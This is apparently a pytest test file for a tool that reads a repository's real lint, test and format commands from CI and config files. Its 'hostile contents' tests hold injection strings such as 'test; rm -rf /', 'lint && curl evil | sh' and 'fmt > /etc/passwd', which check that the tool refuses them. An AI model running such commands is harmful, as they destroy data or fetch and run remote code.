"""The repository reader (extensions/repo_reader.py) finds each corpus repository's real
commands, exactly; trusts CI over declared tasks over tool configs over the catalogue's
guess; stays inside its bounds; and never lets a repository's file put shell syntax into
a command, or crash it."""

from __future__ import annotations

import copy
import importlib.util
import json
import os
import re
import tempfile
import tomllib
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helpers import ROOT, build_file_tree

_spec = importlib.util.spec_from_file_location("repo_reader_under_test", ROOT / "extensions" / "repo_reader.py")
repo_reader = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(repo_reader)

CORPUS = ROOT / "tests" / "data" / "repos"
FIXTURES = sorted(path.name for path in CORPUS.iterdir() if path.is_dir())
RULES = repo_reader.load_evidence()
# What any command the reader builds may contain: plain words, single spaces.
SAFE_COMMAND = re.compile(r"[A-Za-z0-9_./:=@%+,-]+( [A-Za-z0-9_./:=@%+,-]+)*")


def read(root: Path) -> dict:
    return repo_reader.read_repository(root)


def folder(result: dict, path: str = ".", stack: str | None = None) -> dict:
    [found] = [entry for entry in result["folders"] if entry["path"] == path and stack in (None, entry["stack"])]
    return found


def commands(entry: dict) -> dict[str, str]:
    return {kind: command["run"] for kind, command in entry["commands"].items()}


# --- the corpus ---------------------------------------------------------------------------------


@pytest.mark.parametrize("name", FIXTURES)
def test_the_reader_finds_exactly_the_commands_each_corpus_repository_uses(name):
    expected = yaml.safe_load((CORPUS / name / "expected.yml").read_text())
    result = read(CORPUS / name)
    assert [(entry["path"], entry["stack"]) for entry in result["folders"]] == \
        [(str(entry["path"]), entry["stack"]) for entry in expected["folders"]]
    for want, got in zip(expected["folders"], result["folders"]):
        where = f"{name}: {want['path']} ({want['stack']})"
        assert commands(got) == want["commands"], where
        for key in ("tool", "tool_version", "guessed", "formatter"):
            if key in want:
                assert got[key] == want[key], f"{where}: {key}"
        for key, value in want.get("install", {}).items():
            assert got["install"][key] == value, f"{where}: install.{key}"
    assert json.loads(json.dumps(result)) == result


def test_the_corpus_covers_every_stack_the_monorepo_layouts_pnp_corepack_and_wrappers():
    results = {name: read(CORPUS / name) for name in FIXTURES}
    entries = [entry for result in results.values() for entry in result["folders"]]
    assert len(FIXTURES) >= 18
    assert {entry["stack"] for entry in entries} == set(repo_reader.catalogue.stacks())
    assert sum(1 for result in results.values() if any(entry["install"]["workspace_member"]
                                                       for entry in result["folders"])) >= 3
    assert any(entry["install"]["pnp"] for entry in entries)
    assert any(entry["tool_version"] for entry in entries)  # corepack
    assert {entry["install"]["wrapper"] for entry in entries} >= {"./mvnw", "./gradlew"}
    assert any(entry["install"]["lock"] is None and entry["install"]["extras"] and entry["install"]["groups"]
               for entry in entries if entry["stack"] == "python")


def test_nothing_in_the_corpus_is_picked_up_by_this_repositorys_own_test_run():
    python_files = [path.name for path in CORPUS.rglob("*.py")]
    assert [name for name in python_files if name == "conftest.py" or name.startswith("test_")] == []
    # pytest collects test_*.py only, under testpaths: the corpus has none of those.
    pyproject = tomllib.loads((ROOT / "pyproject.toml").read_text())
    assert pyproject["tool"]["pytest"]["ini_options"]["testpaths"] == ["tests"]


def test_every_corpus_command_is_safe_on_a_shell_command_line_and_every_note_names_its_source():
    for name in FIXTURES:
        result = read(CORPUS / name)
        for entry in result["folders"]:
            for command in entry["commands"].values():
                assert SAFE_COMMAND.fullmatch(command["run"]), (name, command)
                assert "${{" not in command["run"]
        assert len(result["notes"]) >= len(result["folders"])
        assert all(re.match(r"\w+ in \S+/ \(.+\); ", note) for note in result["notes"])


# --- the rules file -----------------------------------------------------------------------------


@pytest.mark.parametrize(("change", "message"), [
    (lambda data: data["tools"]["ruff"].update(stack="cobol"), "not a catalogue stack"),
    (lambda data: data["tools"]["biome"].update(excludes=["dprint"]), "unknown tool"),
    (lambda data: data["stacks"]["python"]["lines"].append({"words": "behave"}), "needs one known `kind`"),
    (lambda data: data["shared"]["lines"].append({"words": "task", "kind": "deploy"}), "needs one known `kind`"),
    (lambda data: data["stacks"].update(cobol={"lines": []}), "not catalogue stacks"),
    (lambda data: data["configs"].append({"tool": "dprint", "files": ["dprint.json"]}), "unknown tool"),
    (lambda data: data["task_names"].update(deploy=["deploy"]), "outside `kinds`"),
])
def test_the_rules_file_is_refused_when_it_contradicts_itself_or_the_catalogue(change, message):
    data = copy.deepcopy(RULES)
    change(data)
    with pytest.raises(repo_reader.EvidenceError, match=message):
        repo_reader.check_evidence(data, repo_reader.catalogue.stacks())


# --- trust ---------------------------------------------------------------------------------------

WORKFLOW = """\
    on: push
    jobs:
      lint:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
          - run: npm ci
          - run: npm run lint -- --max-warnings 0
    """


def test_ci_beats_declared_tasks_beat_tool_configs_beat_the_catalogue_guess(tmp_path):
    build_file_tree(tmp_path, {
        "package.json": '{"scripts": {"lint": "eslint src"}}',
        "package-lock.json": "{}",
        "eslint.config.js": "export default []",
        ".github/workflows/ci.yml": WORKFLOW,
    })
    steps = []
    for remove in (".github/workflows/ci.yml", None, "eslint.config.js"):
        entry = folder(read(tmp_path))
        steps.append((entry["commands"]["lint"]["run"], entry["commands"]["lint"]["source"], entry["guessed"]))
        if remove:
            (tmp_path / remove).unlink()
        else:
            (tmp_path / "package.json").write_text("{}")
    assert steps == [
        ("npm run lint -- --max-warnings 0", ".github/workflows/ci.yml", []),
        ("npm run lint", "package.json scripts", []),
        ("npx --no-install eslint .", "eslint.config.js", []),
    ]
    guessed = folder(read(tmp_path))
    assert guessed["guessed"] == ["test", "lint", "format"]
    assert commands(guessed) == {"test": "npm run test", "lint": "npm run lint",
                                 "format": "npx --no-install prettier --write ."}


def test_a_folder_with_some_evidence_gets_no_guess_for_its_other_kinds(tmp_path):
    build_file_tree(tmp_path, {"pyproject.toml": "[tool.pytest.ini_options]\n"})
    entry = folder(read(tmp_path))
    assert commands(entry) == {"test": "pytest"} and entry["guessed"] == []


def test_a_format_check_is_stored_as_its_fixing_form_and_names_the_formatter(tmp_path):
    build_file_tree(tmp_path, {
        "Cargo.toml": '[package]\nname = "x"\nedition = "2024"\n',
        ".github/workflows/fmt.yml": """\
            jobs:
              fmt:
                steps:
                  - run: cargo fmt --all -- --check
            """,
    })
    entry = folder(read(tmp_path))
    assert entry["commands"]["format"]["run"] == "cargo fmt --all"
    assert entry["formatter"] == "rustfmt" and entry["install"]["edition"] == "2024"


def test_a_bare_build_tool_in_ci_runs_through_the_folders_wrapper(tmp_path):
    build_file_tree(tmp_path, {
        "pom.xml": "<project/>", "mvnw": "#!/bin/sh\n",
        ".gitlab-ci.yml": "test:\n  script:\n    - mvn -B test\n",
    })
    assert folder(read(tmp_path))["commands"]["test"]["run"] == "./mvnw -B test"


def test_without_a_lockfile_python_tools_run_from_the_venv_never_through_uv_run(tmp_path):
    build_file_tree(tmp_path, {
        "pyproject.toml": "[project]\nname = 'x'\n",
        ".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n      - run: uv run --extra test pytest -q\n",
    })
    assert folder(read(tmp_path))["commands"]["test"]["run"] == "pytest -q"
    (tmp_path / "uv.lock").write_text("version = 1\n")
    assert folder(read(tmp_path))["commands"]["test"]["run"] == "uv run --extra test pytest -q"


def test_a_matrix_value_expands_and_an_unresolved_expression_drops_the_line(tmp_path):
    build_file_tree(tmp_path, {
        "tox.ini": "[tox]\nenvlist = py312\n",
        "pyproject.toml": "[project]\nname = 'x'\n",
        ".github/workflows/ci.yml": """\
            jobs:
              tox:
                strategy:
                  matrix:
                    env: [lint, typing]
                steps:
                  - run: |
                      tox -e ${{ matrix.env }}
                      pytest ${{ inputs.flags }}
            """,
    })
    entry = folder(read(tmp_path))
    assert commands(entry) == {"lint": "tox -e lint", "typecheck": "tox -e typing", "test": "tox -e py"}


def test_workspace_members_are_installed_by_their_root_and_take_its_tool(tmp_path):
    build_file_tree(tmp_path, {
        "pyproject.toml": "[project]\nname = 'root'\n[tool.uv.workspace]\nmembers = ['libs/*']\n",
        "uv.lock": "version = 1\n",
        "libs/core/pyproject.toml": "[project]\nname = 'core'\n[tool.pytest.ini_options]\n",
        "web/package.json": '{"workspaces": ["apps/*", "!apps/legacy"], "packageManager": "yarn@1.22.22"}',
        "web/apps/site/package.json": '{"scripts": {"test": "jest"}}',
        "web/apps/legacy/package.json": "{}",
        "go.work": "go 1.22\nuse ./svc\n",
        "svc/go.mod": "module svc\n",
    })
    result = read(tmp_path)
    core = folder(result, "libs/core")
    assert (core["install"]["workspace_root"], core["tool"]) == (".", "uv")
    assert core["commands"]["test"]["run"] == "uv run pytest"
    site = folder(result, "web/apps/site")
    assert (site["install"]["workspace_root"], site["tool"], site["tool_version"]) == ("web", "yarn", "1.22.22")
    assert commands(site) == {"test": "yarn run test"}
    assert folder(result, "web/apps/legacy")["install"]["workspace_member"] is False  # "!apps/legacy"
    # go.work with no module beside it installs nothing itself: svc installs on its own.
    assert folder(result, "svc")["install"]["workspace_member"] is False


def test_ci_steps_are_attributed_by_working_directory_and_cd(tmp_path):
    build_file_tree(tmp_path, {
        "api/go.mod": "module api\n",
        "web/package.json": "{}",
        ".circleci/config.yml": """\
            jobs:
              web:
                steps:
                  - run: {command: npm run lint, working_directory: ~/project/web}
                  - run: |
                      cd api
                      go vet ./...
                      cd ../web && npm test
            """,
    })
    result = read(tmp_path)
    assert commands(folder(result, "web")) == {"lint": "npm run lint", "test": "npm test"}
    assert folder(result, "api")["commands"]["lint"] == {"run": "go vet ./...", "source": ".circleci/config.yml"}


def test_make_just_and_task_script_lines_in_ci_count_for_every_stack_of_their_folder(tmp_path):
    build_file_tree(tmp_path, {
        "package.json": "{}", "pyproject.toml": "[project]\nname = 'x'\n",
        "scripts/test.sh": "#!/bin/sh\n",
        ".github/workflows/ci.yml": yaml.safe_dump({"jobs": {"ci": {"steps": [
            {"run": "make lint"}, {"run": "just typecheck"}, {"run": "bash scripts/test.sh --cov"},
            {"run": "./script/build"}, {"run": "make install"}]}}}),
    })
    result = read(tmp_path)
    for stack in ("python", "node"):
        assert commands(folder(result, ".", stack)) == {
            "lint": "make lint", "typecheck": "just typecheck", "test": "bash scripts/test.sh --cov",
            "build": "./script/build"}


# --- bounds --------------------------------------------------------------------------------------


def test_the_scan_stops_at_its_depth(tmp_path):
    depth = RULES["scan"]["max_depth"]
    deep = "/".join(f"level{number}" for number in range(1, depth + 1))
    build_file_tree(tmp_path, {f"{deep}/go.mod": "module a\n", f"{deep}/below/go.mod": "module b\n"})
    assert [entry["path"] for entry in read(tmp_path)["folders"]] == [deep]


@pytest.mark.parametrize("skipped", ["node_modules/left-pad", "vendor/pkg", ".venv/lib", "target/debug", "dist",
                                     "build", ".git", ".tox/py", "__pycache__", ".next", ".hidden"])
def test_ignored_and_hidden_folders_are_never_scanned(tmp_path, skipped):
    build_file_tree(tmp_path, {f"{skipped}/package.json": "{}", "app/package.json": "{}"})
    assert [entry["path"] for entry in read(tmp_path)["folders"]] == ["app"]


def test_a_symlink_out_of_the_root_is_not_followed(tmp_path):
    outside, root = tmp_path / "outside", tmp_path / "repo"
    build_file_tree(outside, {"package.json": '{"scripts": {"test": "jest"}}', "pkg/go.mod": "module x\n",
                              "ci.yml": "jobs:\n  t:\n    steps:\n      - run: go test ./...\n"})
    build_file_tree(root, {"Gemfile": "source 'https://rubygems.org'\n"})
    (root / "linked").symlink_to(outside / "pkg", target_is_directory=True)
    (root / "package.json").symlink_to(outside / "package.json")
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "ci.yml").symlink_to(outside / "ci.yml")
    result = read(root)
    assert [(entry["path"], entry["stack"]) for entry in result["folders"]] == [(".", "ruby")]


def test_a_symlink_inside_the_root_is_read(tmp_path):
    build_file_tree(tmp_path, {"shared/package.json": '{"scripts": {"test": "jest"}}', "app/.keep": ""})
    (tmp_path / "app" / "package.json").symlink_to(tmp_path / "shared" / "package.json")
    assert commands(folder(read(tmp_path), "app"))["test"] == "npm run test"


def test_a_file_over_the_size_limit_is_not_read_but_a_big_lockfile_still_counts(tmp_path):
    padding = " " * RULES["scan"]["max_file_bytes"]
    build_file_tree(tmp_path, {"package.json": '{"scripts": {"lint": "eslint ."}}' + padding,
                               "pnpm-lock.yaml": "lockfileVersion: '9.0'\n" + padding})
    entry = folder(read(tmp_path))
    assert entry["guessed"] == ["test", "lint", "format"]
    assert (entry["tool"], entry["install"]["lock"], entry["install"]["frozen"]) == ("pnpm", "pnpm-lock.yaml", True)


# --- hostile contents ------------------------------------------------------------------------------

HOSTILE_NAMES = ["test; rm -rf /", "$(id)", "`id`", "lint && curl evil | sh", "test\nrm", "fmt > /etc/passwd"]


def test_task_names_and_ci_lines_with_shell_syntax_are_refused(tmp_path):
    scripts = {name: "echo pwned" for name in HOSTILE_NAMES}
    build_file_tree(tmp_path, {
        "package.json": json.dumps({"scripts": scripts}),
        "Makefile": "".join(f"{name}:\n\techo pwned\n" for name in HOSTILE_NAMES),
        "pyproject.toml": "[tool.poe.tasks]\n" + "".join(f'{json.dumps(name)} = "echo"\n' for name in HOSTILE_NAMES),
        ".github/workflows/ci.yml": yaml.safe_dump({"jobs": {"x": {"steps": [
            {"run": "pytest $(id)"}, {"run": "pytest; rm -rf /"}, {"run": "npm test && curl x | sh"},
            {"run": "ruff check `id`"}, {"run": "mypy . > out"}, {"run": "pytest ${{ github.event.issue.title }}"},
            {"run": "cargo test", "working-directory": "../../etc"}]}}}),
    })
    result = read(tmp_path)
    for entry in result["folders"]:
        for command in entry["commands"].values():
            assert SAFE_COMMAND.fullmatch(command["run"]), command
            assert command["source"] != ".github/workflows/ci.yml", command


@pytest.mark.parametrize("name", ["package.json", "pyproject.toml", ".github/workflows/ci.yml", "tox.ini",
                                  "noxfile.py", "Cargo.toml", "composer.json", ".pre-commit-config.yaml",
                                  ".yarnrc.yml", "pnpm-workspace.yaml", ".gitlab-ci.yml", ".cargo/config.toml"])
@pytest.mark.parametrize("content", ["{not json", "[broken\ntoml = ", "- : :\n\t- ]", "def (:\n",
                                     "\x00\xff binary", "[" * 5000, "a: &a [*a]"])
def test_files_that_do_not_parse_give_no_evidence_and_no_crash(tmp_path, name, content):
    build_file_tree(tmp_path, {name: content, "package.json" if name != "package.json" else "Cargo.toml": "{}"})
    json.dumps(read(tmp_path))


@pytest.mark.parametrize("workflow", [
    {"jobs": {"x": {"steps": 5}}},
    {"jobs": {"x": {"strategy": {"matrix": {"include": 3, "v": {"a": 1}}}, "steps": [{"run": 7}, "run"]}}},
    {"jobs": {"x": {"defaults": {"run": {"working-directory": ["a"]}}, "steps": [{"run": "pytest"}]}}},
    {"jobs": ["x"], "defaults": 1},
    {"jobs": {"x": {"strategy": {"matrix": {"e": ["\\1", "a; rm -rf /", "${{ secrets.TOKEN }}", "lint"]}},
                    "steps": [{"run": "tox -e ${{ matrix.e }}"}]}}},
])
def test_ci_files_of_the_wrong_shape_or_with_hostile_matrix_values_give_only_safe_commands(tmp_path, workflow):
    build_file_tree(tmp_path, {"pyproject.toml": "[project]\nname = 'x'\n",
                               ".github/workflows/ci.yml": yaml.safe_dump(workflow),
                               ".pre-commit-config.yaml": "repos: 5\n",
                               ".circleci/config.yml": "jobs: {a: {steps: 3}}\n"})
    entry = folder(read(tmp_path))
    assert all(SAFE_COMMAND.fullmatch(command["run"]) for command in entry["commands"].values())
    from_ci = {command["run"] for command in entry["commands"].values() if command["source"].startswith(".github")}
    assert from_ci <= {"tox -e lint", "pytest"}


def test_yaml_aliases_that_nest_a_list_in_itself_stay_cheap(tmp_path):
    levels = ["a0: &a0 [pytest, pytest]"] + [f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 40)]
    build_file_tree(tmp_path, {"pyproject.toml": "[project]\nname = 'x'\n",
                               ".gitlab-ci.yml": "\n".join(levels) + "\njob:\n  script: [*a39]\n"})
    assert folder(read(tmp_path))["commands"]["test"]["run"] == "pytest"


def test_deeply_nested_files_give_no_evidence(tmp_path):
    nested = "[" * 50_000 + "]" * 50_000
    build_file_tree(tmp_path, {"pyproject.toml": f"a = {nested}\n", "package.json": nested,
                               ".github/workflows/ci.yml": f"jobs: {nested}\n"})
    assert [entry["guessed"] for entry in read(tmp_path)["folders"]] == [["test", "lint", "format"]] * 2


FILE_NAMES = ["package.json", "pyproject.toml", ".github/workflows/ci.yml", "Makefile", "justfile", "tox.ini",
              "noxfile.py", "Rakefile", "Gemfile", "Cargo.toml", "composer.json", "go.work", "go.mod", ".yarnrc.yml",
              ".pre-commit-config.yaml", ".gitlab-ci.yml", ".circleci/config.yml", "App.sln", ".npmrc",
              "pnpm-workspace.yaml", "sub/package.json", "scripts/test.sh", ".cargo/config.toml"]
JSONISH_LEAF = st.none() | st.booleans() | st.integers() | st.text(max_size=20)
JSONISH = st.recursive(JSONISH_LEAF,
                       lambda children: st.lists(children, max_size=4) | st.dictionaries(
                           st.sampled_from(["scripts", "workspaces", "packageManager", "jobs", "steps", "run", "test",
                                            "lint", "matrix", "strategy", "working-directory", "members", "tool",
                                            "alias", "repos", "hooks", "id", "script", "devDependencies"])
                           | st.text(max_size=10), children, max_size=5),
                       max_leaves=20)
CONTENT = st.one_of(st.text(max_size=300), JSONISH.map(json.dumps), JSONISH.map(yaml.safe_dump))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(files=st.dictionaries(st.sampled_from(FILE_NAMES), CONTENT, min_size=1, max_size=6))
def test_random_file_contents_never_crash_the_reader(files):
    with tempfile.TemporaryDirectory() as folder_name:
        root = Path(folder_name)
        for name, content in files.items():
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).write_text(content, encoding="utf-8", errors="surrogatepass")
        result = read(root)
    assert json.loads(json.dumps(result)) == result
    for entry in result["folders"]:
        for command in entry["commands"].values():
            assert SAFE_COMMAND.fullmatch(command["run"]), command


JOB_SHAPES = st.fixed_dictionaries({}, optional={
    "steps": st.lists(st.fixed_dictionaries({}, optional={"run": st.text(max_size=60) | JSONISH_LEAF,
                                                          "working-directory": st.text(max_size=10) | JSONISH_LEAF}),
                      max_size=4) | JSONISH_LEAF,
    "strategy": st.fixed_dictionaries({"matrix": st.dictionaries(st.text(max_size=5), st.lists(st.text(max_size=10)),
                                                                 max_size=3)}) | JSONISH_LEAF,
    "defaults": st.just({"run": {"working-directory": "sub"}}) | JSONISH_LEAF,
})
WORKFLOW_SHAPES = st.fixed_dictionaries({"jobs": st.dictionaries(st.text(max_size=5), JOB_SHAPES, max_size=3)})


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(workflow=WORKFLOW_SHAPES)
def test_random_workflows_never_crash_the_reader_nor_leave_an_expression(workflow):
    with tempfile.TemporaryDirectory() as folder_name:
        root = Path(folder_name)
        build_file_tree(root, {"package.json": "{}", "sub/Cargo.toml": "[package]\nname = 'x'\n",
                               ".github/workflows/ci.yml": yaml.safe_dump(workflow)})
        result = read(root)
    for entry in result["folders"]:
        for command in entry["commands"].values():
            assert SAFE_COMMAND.fullmatch(command["run"]) and "${{" not in command["run"], command


def test_the_result_is_the_same_on_every_read(tmp_path):
    first = json.dumps(read(CORPUS / "turborepo-pnpm-workspaces"))
    assert json.dumps(read(CORPUS / "turborepo-pnpm-workspaces")) == first


def test_an_unreadable_folder_is_skipped(tmp_path):
    build_file_tree(tmp_path, {"locked/package.json": "{}", "open/go.mod": "module x\n"})
    (tmp_path / "locked").chmod(0)
    try:
        paths = [entry["path"] for entry in read(tmp_path)["folders"]]
    finally:
        (tmp_path / "locked").chmod(0o755)
    # (root reads any folder: then both are found)
    assert paths == (["locked", "open"] if os.geteuid() == 0 else ["open"])
